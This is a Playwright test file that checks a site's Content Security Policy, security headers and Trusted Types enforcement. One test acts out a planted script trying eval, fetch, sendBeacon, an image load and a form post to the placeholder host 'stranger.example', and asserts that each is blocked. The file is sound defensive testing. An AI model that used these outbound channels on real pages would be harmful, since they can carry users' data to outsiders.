import { test as base, expect } from '@playwright/test';
import { everyAddress } from '../support/addresses.ts';

// Not our own `test`: here strangers are called on purpose, and must not be reached.
const stranger = 'https://stranger.example';

base(
  'every answer carries the headers, and every page its own policy with exactly two hashes',
  async ({ request }) => {
    for (const address of [...everyAddress, '/robots.txt', '/favicon.svg']) {
      const answer = await request.get(address);
      const headers = answer.headers();
      expect(headers['content-security-policy']).toContain("default-src 'none'");
      expect(headers['referrer-policy']).toBe('no-referrer');
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['permissions-policy']).toContain('clipboard-write=(self)');
      if (!headers['content-type']?.startsWith('text/html')) continue;
      const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await answer.text())?.[1];
      expect(policy?.match(/'sha256-/g)).toHaveLength(2);
      expect(policy).toContain("form-action 'none'");
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/unsafe|https?:/);
    }
  },
);

base('a planted inline script does not run', async ({ page }) => {
  await page.route('/', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace('</body>', '<script>window.planted = true</script></body>');
    await route.fulfill({ response: answer, body });
  });
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});

base('only our one policy can be made, and it makes one address', async ({ page }) => {
  await page.goto('/');
  const made = await page.evaluate(async () => {
    type Policy = { createScriptURL: (url: string) => unknown };
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: Policy) => Policy };
    };
    const outcomes: string[] = [];
    for (const name of ['default', 'stranger']) {
      await new Promise((resolve) => setTimeout(resolve));
      try {
        trustedTypes.createPolicy(name, { createScriptURL: (url) => url });
        outcomes.push(`${name} made`);
      } catch {
        outcomes.push(`${name} refused`);
      }
    }
    return outcomes;
  });
  expect(made).toEqual(['default refused', 'stranger refused']);
});

base('what a planted script would do is refused', async ({ page }) => {
  const reached: string[] = [];
  page.on('response', (response) => {
    if (response.url().startsWith(stranger)) reached.push(response.url());
  });
  await page.route(`${stranger}/**`, (route) => route.fulfill({ body: 'reached' }));
  await page.goto('/carrier');

  const refused = await page.evaluate(async (host) => {
    const violated: string[] = [];
    addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
    const outcomes: Record<string, string> = {};
    // Later, for what runs inside this very call is exempt: the debugger asked for it, not the page.
    const attempt = async (name: string, act: () => unknown) => {
      await new Promise((resolve) => setTimeout(resolve));
      try {
        await act();
        outcomes[name] = 'went through';
      } catch {
        outcomes[name] = 'refused';
      }
    };
    // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
    await attempt('eval', () => eval('1'));
    await attempt('fetch', () => fetch(`${host}/x`));
    await attempt('beacon', () => {
      if (!navigator.sendBeacon(`${host}/x`, 'x')) throw new Error('refused');
    });
    await attempt('innerHTML of a script', () => {
      document.createElement('script').textContent = 'window.planted = true';
    });
    await attempt('image', () => {
      const image = new Image();
      const settled = new Promise((resolve, reject) => {
        image.onload = resolve;
        image.onerror = reject;
      });
      image.src = `${host}/x.png`;
      return settled;
    });
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: `${host}/x` });
    document.body.append(form);
    HTMLFormElement.prototype.submit.call(form);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { outcomes, violated };
  }, stranger);

  expect(refused.outcomes).toMatchObject({ eval: 'refused', fetch: 'refused', image: 'refused' });
  expect(refused.outcomes['innerHTML of a script']).toBe('refused');
  expect(refused.violated).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'form-action']));
  expect(reached).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/carrier');
});
